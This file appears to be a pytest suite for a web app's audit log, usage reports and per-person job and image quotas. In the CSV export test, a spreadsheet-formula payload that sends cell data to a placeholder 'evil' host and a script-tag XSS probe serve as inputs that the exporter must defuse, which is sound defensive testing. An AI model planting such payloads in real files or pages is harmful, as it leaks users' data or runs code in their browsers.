"""The audit log, usage over time, and quotas that say when a person can go on (on SQLite
and PostgreSQL)."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import timedelta

import pytest

from webapp.errors import Forbidden, QuotaExceeded, ValidationError
from webapp.services.audit import AuditFilter
from webapp.users import User

ADMIN = User("ada", "Ada", is_admin=True)
ANNA = User("anna", "Anna")
BEN = User("ben", "Ben")


def a_job(team, user=ANNA, kind="image", outcome="ok", **values):
    values = {
        "model": "tiny-sd",
        "gpu_seconds": 1.5,
        "images": 1 if kind == "image" else 0,
    } | values
    return team.audit.record(user, kind, outcome, **values)


def test_a_job_is_recorded_with_its_prompt_whole_by_default(team):
    a_job(team, prompt="a red mug", tool="poster", parameters={"steps": 20, "size": (512, 512)})
    entry = team.audit.query(ADMIN).items[0]
    assert (entry.actor, entry.kind, entry.outcome, entry.model) == (
        "anna",
        "image",
        "ok",
        "tiny-sd",
    )
    assert (entry.tool, entry.images, entry.gpu_seconds, entry.client) == ("poster", 1, 1.5, "page")
    assert entry.parameters == {"steps": 20, "size": [512, 512]}
    assert entry.prompt == "a red mug"
    assert entry.prompt_hash == hashlib.sha256(b"a red mug").hexdigest()


def test_only_the_prompts_hash_is_kept_when_the_setting_says_so(make_team):
    team = make_team(audit_prompts="hash")
    a_job(team, prompt="our secret launch")
    entry = team.audit.query(ADMIN).items[0]
    assert entry.prompt is None
    assert entry.prompt_hash == hashlib.sha256(b"our secret launch").hexdigest()


@pytest.mark.parametrize(
    ("kind", "outcome", "client"),
    [("Image", "ok", "page"), ("image", "great", "page"), ("image", "ok", "phone")],
)
def test_a_malformed_entry_is_a_programming_error(team, kind, outcome, client):
    with pytest.raises(ValueError):
        team.audit.record(ANNA, kind, outcome, client=client)


def test_the_log_is_filtered_and_paged_newest_first(team, clock):
    for index in range(3):
        a_job(team, ANNA, model=f"model-{index}")
        clock.advance(minutes=1)
    a_job(team, BEN, kind="text", outcome="failed", model="tiny-llm")
    everything = team.audit.query(ADMIN, per_page=2)
    assert everything.total == 4 and [e.actor for e in everything.items] == ["ben", "anna"]
    assert team.audit.query(ADMIN, AuditFilter(actor="anna")).total == 3
    assert team.audit.query(ADMIN, AuditFilter(outcome="failed")).items[0].model == "tiny-llm"
    since = clock.now - timedelta(seconds=90)
    assert team.audit.query(ADMIN, AuditFilter(since=since)).total == 2


def test_the_csv_export_keeps_text_literal_and_defuses_spreadsheet_formulas(team):
    a_job(team, prompt='=HYPERLINK("http://evil/?"&A1)', parameters={"note": 'a,b\n"c"'})
    a_job(team, prompt="<script>alert(1)</script>")
    rows = list(csv.DictReader(io.StringIO(team.audit.export_csv(ADMIN))))
    assert [row["prompt"] for row in rows] == [
        '\'=HYPERLINK("http://evil/?"&A1)',
        "<script>alert(1)</script>",
    ]
    assert rows[0]["parameters"] == '{"note": "a,b\\n\\"c\\""}'
    assert rows[0]["actor"] == "anna" and rows[0]["at"].endswith("+00:00")


def test_usage_per_person_and_per_model_per_day(team, clock):
    a_job(team, ANNA, images=4, gpu_seconds=2.0)
    a_job(team, ANNA, kind="text", model="tiny-llm", gpu_seconds=0.5)
    a_job(team, ANNA, outcome="refused")  # refused work used no GPU
    team.audit.record(ANNA, "sign_in", "ok")  # not GPU work
    clock.advance(days=1)
    a_job(team, BEN, images=2, gpu_seconds=1.0)

    by_person = team.audit.usage(ADMIN, by="person")
    assert [(p.bucket, p.key, p.jobs, p.images, p.gpu_seconds) for p in by_person] == [
        ("2026-11-29", "anna", 2, 4, 2.5),
        ("2026-11-30", "ben", 1, 2, 1.0),
    ]
    by_model = team.audit.usage(ADMIN, by="model", bucket="hour")
    assert [(p.bucket, p.key, p.jobs) for p in by_model] == [
        ("2026-11-29T09:00", "tiny-llm", 1),
        ("2026-11-29T09:00", "tiny-sd", 1),
        ("2026-11-30T09:00", "tiny-sd", 1),
    ]
    assert team.audit.usage(ADMIN, since=clock.now - timedelta(hours=1))[0].key == "ben"
    with pytest.raises(ValidationError):
        team.audit.usage(ADMIN, by="team")


@pytest.mark.parametrize(
    "call",
    [
        lambda audit: audit.query(ANNA),
        lambda audit: audit.export_csv(ANNA),
        lambda audit: audit.usage(ANNA),
    ],
    ids=["query", "export_csv", "usage"],
)
def test_reading_the_log_is_for_admins_and_a_members_try_is_recorded(team, call):
    with pytest.raises(Forbidden, match="Only an admin"):
        call(team.audit)
    refused = team.audit.query(ADMIN, AuditFilter(outcome="refused")).items
    assert [(e.actor, e.kind[:6]) for e in refused] == [("anna", "audit.")]


# -- quotas --------------------------------------------------------------------------------


def test_no_quota_by_default(team):
    for _ in range(50):
        a_job(team, images=4)
    team.audit.check_quota(ANNA, "image", 4)


def test_the_hourly_job_quota_says_when_the_person_can_go_on(make_team, clock):
    team = make_team(quota_jobs_per_hour=3)
    for _ in range(3):
        team.audit.check_quota(ANNA, "text")
        a_job(team, kind="text")
        clock.advance(minutes=10)
    with pytest.raises(QuotaExceeded) as caught:
        team.audit.check_quota(ANNA, "text")
    message = caught.value.message
    assert "used your 3 jobs for this hour" in message
    assert "go on in 30 minutes, at 10:00 UTC" in message  # when the first job leaves the hour
    assert caught.value.retry_at == clock.now + timedelta(minutes=30)
    team.audit.check_quota(BEN, "text")  # a quota is per person

    clock.advance(minutes=30)
    team.audit.check_quota(ANNA, "text")


def test_refusals_do_not_use_up_the_quota_and_are_recorded(make_team):
    team = make_team(quota_jobs_per_hour=1)
    a_job(team)
    for _ in range(3):
        with pytest.raises(QuotaExceeded):
            team.audit.check_quota(ANNA, "image")
    refused = team.audit.query(ADMIN, AuditFilter(outcome="refused")).items
    assert len(refused) == 3 and "used your 1 job for this hour" in refused[0].detail


def test_queued_jobs_count_toward_the_quota(make_team):
    team = make_team(quota_jobs_per_hour=2)
    with pytest.raises(QuotaExceeded, match="still in the queue"):
        team.audit.check_quota(ANNA, "image", pending_jobs=2)


def test_the_daily_image_quota_counts_images_not_jobs(make_team, clock):
    team = make_team(quota_images_per_day=8)
    a_job(team, images=4)
    clock.advance(hours=6)
    a_job(team, images=3)
    team.audit.check_quota(ANNA, "image", 1)
    with pytest.raises(QuotaExceeded) as caught:
        team.audit.check_quota(ANNA, "image", 2)
    assert "made 7 of your 8 images for today (the last 24 hours), and 2 more would pass" in (
        caught.value.message
    )
    assert "go on in 18 hours, at 09:00 UTC" in caught.value.message
    with pytest.raises(QuotaExceeded, match="more than the 8 a day") as caught:
        team.audit.check_quota(BEN, "image", 9)
    assert caught.value.retry_at is None and caught.value.field == "num_images"
    team.audit.check_quota(ANNA, "text")  # text makes no images
